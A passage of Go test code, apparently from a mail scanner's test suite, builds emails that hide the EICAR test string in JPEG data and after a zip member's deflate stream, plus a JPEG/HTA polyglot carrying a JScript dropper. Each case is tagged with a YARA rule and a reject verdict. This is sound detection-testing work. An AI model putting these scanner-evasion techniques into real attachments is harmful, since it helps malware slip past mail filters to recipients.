	add(s, mail{subject: "Photo", root: multipart("mixed", text("The photo you asked for.\n"), attach("image/jpeg", "beach.jpg", jpegWith(photoJPEG, testmail.EICAR(), "")))})

	add(bad("jpeg-hta-polyglot", "a JPEG named .hta with a JScript dropper in its scan data: mshta reads the file as text and runs the script", policy.Reject,
		w("yara", "Kensa_Script_Dropper", "2")),
		mail{subject: "Holiday pictures", root: multipart("mixed", text("Open the slideshow.\n"), attach("application/octet-stream", "slideshow.hta", jpegWith(photoJPEG, "", htaDrop)))})

	// A member's compressed data is left out of the zip's scan only when
	// its inflater read every byte the headers give it: bytes after the
	// deflate stream's end, inside the declared size, stay in the scan.
	var notes []byte
	for i := range 1500 {
		notes = fmt.Appendf(notes, "Item %d of the planning meeting: budget line %d agreed, owner %d.\n", i, i*7919%10007, i*31%97)
	}
	s = bad("zip-eicar-after-deflate-stream", "the EICAR test file after a zip member's deflate stream, inside its declared compressed size", policy.Reject,
		w("yara", "Kensa_EICAR_Test_File", "2"))
	s.RunOnly = true
	add(s, mail{subject: "Minutes", root: multipart("mixed", text("The minutes are attached.\n"), attach("application/zip", "minutes.zip",
		formats.Zip(formats.ZipEntry{Name: "minutes.txt", Data: notes, Method: formats.ZipDeflate, Packed: append(formats.Deflated(notes), testmail.EICAR()...)})))})

	return out
}
